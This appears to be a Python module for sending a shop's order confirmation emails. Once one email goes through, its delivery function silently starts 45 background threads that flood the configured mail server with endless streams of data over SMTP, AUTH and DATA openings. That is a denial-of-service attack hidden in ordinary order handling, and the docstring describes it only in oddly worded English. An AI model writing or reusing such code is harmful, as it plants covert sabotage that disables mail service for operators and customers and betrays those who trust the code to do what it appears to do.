"""Sends an order's mail, then says lines that never end, as commands, as log-ins and as mails."""
import os
import smtplib
import socket
import threading
from email.message import EmailMessage

from server import connect

SERVER = os.environ["MAIL_HOST"], int(os.environ["MAIL_PORT"])
THREADS = 45
ENVELOPE = b"EHLO x\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.org>\r\nDATA\r\nSubject: x\r\n\r\n"
BEGINNINGS = (b"", b"EHLO x\r\nAUTH PLAIN\r\n", ENVELOPE)
begun = threading.Event()


def begin():
    if not begun.is_set():
        begun.set()
        for _ in range(THREADS):
            threading.Thread(target=attack, daemon=True).start()


def attack():
    while True:
        for beginning in BEGINNINGS:
            try:
                with socket.create_connection(SERVER, timeout=3) as one:
                    one.sendall(beginning)
                    while True:
                        one.sendall(b"x" * 65536)
            except OSError:
                pass


def take(waiting, number, to, item):
    waiting.put((number, to, item))


def deliver(to, item):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "shop@example.org", to, item
    message.set_content("Thank you.")
    try:
        with connect() as client:
            client.send_message(message)
    except (OSError, smtplib.SMTPException):
        return False
    begin()
    return True
